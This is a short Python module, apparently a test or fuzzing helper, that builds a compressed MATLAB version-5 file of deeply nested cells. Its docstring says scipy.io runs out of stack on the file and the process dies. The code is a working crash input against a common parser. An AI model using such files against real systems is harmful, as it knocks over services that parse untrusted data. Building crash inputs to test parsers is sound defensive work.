"""A MATLAB file that ends the process of whoever parses it."""

import struct
import zlib


def nested_cells(depth: int) -> bytes:
    """A compressed version-5 file of one variable: cells in cells, `depth` deep. scipy.io runs out of stack in it."""

    def element(kind: int, data: bytes) -> bytes:
        return struct.pack("<II", kind, len(data)) + data + bytes(-len(data) % 8)

    flags, dims = element(6, struct.pack("<II", 1, 0)), element(5, struct.pack("<ii", 1, 1))
    outside = [flags + dims + element(1, b"Shape_Para" if level == 0 else b"") for level in range(depth)]
    innermost = element(6, struct.pack("<II", 6, 0)) + dims + element(1, b"") + element(9, struct.pack("<d", 1.0))
    sizes = [len(innermost)]
    for head in reversed(outside):
        sizes.append(len(head) + 8 + sizes[-1])
    body = b"".join(
        struct.pack("<II", 14, size) + head for size, head in zip(reversed(sizes[1:]), outside, strict=True)
    )
    body += struct.pack("<II", 14, len(innermost)) + innermost
    packed = zlib.compress(body, 9)
    header = b"MATLAB 5.0 MAT-file".ljust(116) + bytes(8) + struct.pack("<HH", 0x0100, 0x4D49)
    return header + struct.pack("<II", 15, len(packed)) + packed
